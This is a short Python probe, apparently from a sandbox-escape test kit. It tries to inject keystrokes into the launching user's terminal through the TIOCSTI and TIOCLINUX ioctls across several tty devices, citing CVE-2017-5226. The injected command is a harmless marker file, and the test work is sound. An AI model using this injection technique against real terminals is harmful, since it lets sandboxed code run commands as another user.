"""Types commands into the terminal of whoever started the runner.

Idea: TIOCSTI and TIOCLINUX (CVE-2017-5226 in bubblewrap, and before it in su and sudo).
"""

import fcntl
import os

import kit

TIOCSTI, TIOCLINUX = 0x5412, 0x541C


def type_into(path_or_number):
    number = path_or_number
    if isinstance(number, str):
        number = os.open(number, os.O_RDWR | os.O_NOCTTY)
    for byte in b"touch /tmp/typed\n":
        fcntl.ioctl(number, TIOCSTI, bytes([byte]))
    return "typed"


for place in (0, 1, 2, "/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0"):
    kit.attempt(f"TIOCSTI on {place}", lambda: type_into(place))
kit.attempt("TIOCLINUX", lambda: fcntl.ioctl(0, TIOCLINUX, b"\x03") and "pasted")
kit.honest()
